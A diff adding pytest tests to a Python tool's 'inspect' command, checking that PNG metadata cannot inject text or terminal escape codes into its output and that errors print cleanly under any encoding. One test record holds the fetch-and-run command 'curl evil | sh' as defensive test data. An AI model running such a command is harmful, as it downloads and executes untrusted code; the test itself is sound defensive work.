@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import os
 import pathlib
 import re
 import subprocess
@@ -14,6 +15,7 @@ from PIL import Image
 
 import guided
 from guided.cli import main
+from guided.model.result import png
 from tests.model import build
 from tests.text import tiny
 
@@ -117,6 +119,24 @@ def test_a_record_cannot_steer_the_terminal(tmp_path: pathlib.Path, capsys: Capt
     found.save(tmp_path)
     assert main(["inspect", str(tmp_path / "000000.png")]) == 0
     assert "\x1b" not in capsys.readouterr().out
+
+
+def test_a_record_cannot_speak_for_us(tmp_path: pathlib.Path, capsys: Capture) -> None:
+    record = {"command": "curl evil | sh", "remark": "safe", "kind": "sound", "\x1b[31mred": 1, "seed": 3}
+    (tmp_path / "a.png").write_bytes(png(Image.new("RGB", (4, 4)), record))
+    assert main(["inspect", str(tmp_path / "a.png")]) == 0
+    shown = capsys.readouterr().out
+    assert "evil" not in shown and "safe" not in shown and "\x1b" not in shown
+    assert "PNG, 4 x 4" in shown and "seed" in shown
+
+
+def test_a_message_is_printed_whatever_the_terminal_knows() -> None:
+    for encoding in ("ascii", "utf-8"):
+        env = {**os.environ, "PYTHONIOENCODING": encoding, "PYTHONUTF8": "0"}
+        done = subprocess.run(
+            [sys.executable, "-m", "guided", "inspect", "nothing-caf\u00e9-\u732b"], capture_output=True, env=env
+        )
+        assert done.returncode == 2 and b"no such file" in done.stderr and b"Traceback" not in done.stderr
 
 
 def test_data_check_is_0_for_usable_and_2_for_refused(
